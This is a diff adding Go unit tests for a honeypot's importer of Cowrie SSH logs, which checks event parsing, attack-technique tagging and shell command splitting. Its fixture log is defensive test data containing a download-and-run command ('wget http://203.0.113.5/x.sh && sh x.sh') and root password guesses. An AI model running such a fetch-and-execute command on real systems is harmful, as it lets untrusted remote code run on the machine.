@@ -0,0 +1,115 @@
+package importer
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/josephlewis42/honeyssh/core/classify"
+	"github.com/josephlewis42/honeyssh/core/logger"
+	"github.com/stretchr/testify/assert"
+	"google.golang.org/protobuf/encoding/protojson"
+)
+
+const cowrieLog = `{"eventid":"cowrie.session.connect","src_ip":"192.0.2.1","src_port":50000,"dst_ip":"10.0.0.2","dst_port":22,"session":"a1b2c3d4e5f6","protocol":"ssh","timestamp":"2023-01-02T03:04:05.000001Z"}
+{"eventid":"cowrie.client.version","version":"b'SSH-2.0-Go'","session":"a1b2c3d4e5f6","timestamp":"2023-01-02T03:04:05.1Z"}
+{"eventid":"cowrie.client.kex","hassh":"abc","session":"a1b2c3d4e5f6","timestamp":"2023-01-02T03:04:05.2Z"}
+{"eventid":"cowrie.client.fingerprint","username":"root","fingerprint":"aa:bb","key":"ssh-ed25519 AAAA","type":"ssh-ed25519","session":"a1b2c3d4e5f6","timestamp":"2023-01-02T03:04:05.3Z"}
+{"eventid":"cowrie.login.failed","username":"root","password":"123456","session":"a1b2c3d4e5f6","timestamp":"2023-01-02T03:04:06Z"}
+{"eventid":"cowrie.login.success","username":"root","password":"admin","session":"a1b2c3d4e5f6","timestamp":"2023-01-02T03:04:07Z"}
+{"eventid":"cowrie.client.size","width":80,"height":24,"session":"a1b2c3d4e5f6","timestamp":"2023-01-02T03:04:08Z"}
+
+{"eventid":"cowrie.command.input","input":"cd /tmp; wget http://203.0.113.5/x.sh && sh x.sh","session":"a1b2c3d4e5f6","timestamp":"2023-01-02T03:04:09Z"}
+{"eventid":"cowrie.session.file_download","url":"http://203.0.113.5/x.sh","outfile":"var/lib/cowrie/downloads/5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03","shasum":"5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03","session":"a1b2c3d4e5f6","timestamp":"2023-01-02T03:04:10Z"}
+{"eventid":"cowrie.command.input","input":"uname -a; foo \"$HOME\"","session":"a1b2c3d4e5f6","timestamp":"2023-01-02T03:04:11Z"}
+{"eventid":"cowrie.command.failed","input":"foo /root","session":"a1b2c3d4e5f6","timestamp":"2023-01-02T03:04:11Z"}
+{"eventid":"cowrie.log.closed","ttylog":"var/lib/cowrie/tty/1b4f0e9851971998e732078544c96b36c3d01cedf7caa332359d6f1d83567014","size":1234,"session":"a1b2c3d4e5f6","timestamp":"2023-01-02T03:04:12Z"}
+{"eventid":"cowrie.session.closed","duration":7.0,"session":"a1b2c3d4e5f6","timestamp":"2023-01-02T03:04:12.5+0000"}
+`
+
+func TestCowrieImporter(t *testing.T) {
+	var got []*logger.LogEntry
+	importer := NewCowrieImporter(classify.Default(), func(le *logger.LogEntry) error {
+		got = append(got, le)
+		return nil
+	})
+
+	// Sessions continue across files.
+	lines := strings.SplitAfter(cowrieLog, "\n")
+	assert.NoError(t, importer.Import(strings.NewReader(strings.Join(lines[:8], ""))))
+	assert.NoError(t, importer.Import(strings.NewReader(strings.Join(lines[8:], ""))))
+	assert.NoError(t, importer.Flush())
+
+	assert.Equal(t, 13, importer.Events)
+	assert.Equal(t, map[string]int{"cowrie.client.kex": 1}, importer.Skipped)
+
+	want := []struct{ session, event string }{
+		{"", `{"connectionOpened":{"remoteAddr":"192.0.2.1:50000"}}`},
+		{"", `{"loginAttempt":{"result":"FAILURE","username":"root","publicKey":"AAAA","remoteAddr":"192.0.2.1:50000","clientVersion":"SSH-2.0-Go"}}`},
+		{"", `{"loginAttempt":{"result":"FAILURE","username":"root","password":"123456","remoteAddr":"192.0.2.1:50000","clientVersion":"SSH-2.0-Go"}}`},
+		{"a1b2c3d4e5f6", `{"loginAttempt":{"result":"SUCCESS","username":"root","password":"admin","remoteAddr":"192.0.2.1:50000","clientVersion":"SSH-2.0-Go"}}`},
+		{"a1b2c3d4e5f6", `{"terminalUpdate":{"width":80,"height":24,"isPty":true}}`},
+		{"a1b2c3d4e5f6", `{"runCommand":{"command":["cd","/tmp"]}}`},
+		{"a1b2c3d4e5f6", `{"runCommand":{"command":["wget","http://203.0.113.5/x.sh"],"categories":["command-and-control"],"attackTechniques":["T1105"]}}`},
+		{"a1b2c3d4e5f6", `{"runCommand":{"command":["sh","x.sh"]}}`},
+		{"a1b2c3d4e5f6", `{"download":{"name":"5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03","source":"http://203.0.113.5/x.sh","command":["wget","http://203.0.113.5/x.sh"],"sha256":"5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03"}}`},
+		{"a1b2c3d4e5f6", `{"runCommand":{"command":["uname","-a"],"categories":["discovery"],"attackTechniques":["T1082"]}}`},
+		{"a1b2c3d4e5f6", `{"unknownCommand":{"command":["foo","$HOME"],"status":"NOT_FOUND"}}`},
+		{"a1b2c3d4e5f6", `{"openTtyLog":{"name":"1b4f0e9851971998e732078544c96b36c3d01cedf7caa332359d6f1d83567014"}}`},
+		{"a1b2c3d4e5f6", `{"connectionLost":{"ttyLogSize":"1234"}}`},
+	}
+	if !assert.Len(t, got, len(want)) {
+		return
+	}
+	for i, le := range got {
+		assert.Equal(t, want[i].session, le.GetSessionId())
+		assert.NotZero(t, le.GetTimestampMicros())
+
+		event := &logger.LogEntry{LogType: le.GetLogType()}
+		eventJSON, err := protojson.Marshal(event)
+		assert.NoError(t, err)
+		assert.JSONEq(t, want[i].event, string(eventJSON))
+	}
+}
+
+func TestCowrieImporter_BadLine(t *testing.T) {
+	importer := NewCowrieImporter(nil, func(*logger.LogEntry) error { return nil })
+	err := importer.Import(strings.NewReader(cowrieLog[:strings.Index(cowrieLog, "\n")+1] + "{not json\n"))
+	assert.ErrorContains(t, err, "line 2")
+}
+
+func TestSplitCommands(t *testing.T) {
+	cases := map[string]struct {
+		line string
+		want [][]string
+	}{
+		"simple": {
+			line: "uname -a",
+			want: [][]string{{"uname", "-a"}},
+		},
+		"lists and pipes": {
+			line: "cat /proc/cpuinfo | grep name | wc -l; echo ok",
+			want: [][]string{{"cat", "/proc/cpuinfo"}, {"grep", "name"}, {"wc", "-l"}, {"echo", "ok"}},
+		},
+		"quotes": {
+			line: `echo "root:x" 'a b'`,
+			want: [][]string{{"echo", "root:x", "a b"}},
+		},
+		"substitutions": {
+			line: "echo $(whoami) ${HOME}",
+			want: [][]string{{"echo", "$(whoami)", "${HOME}"}, {"whoami"}},
+		},
+		"assignment only": {
+			line: "X=1",
+		},
+		"unparseable": {
+			line: "echo (",
+			want: [][]string{{"echo", "("}},
+		},
+	}
+
+	for tn, tc := range cases {
+		t.Run(tn, func(t *testing.T) {
+			assert.Equal(t, tc.want, splitCommands(tc.line))
+		})
+	}
+}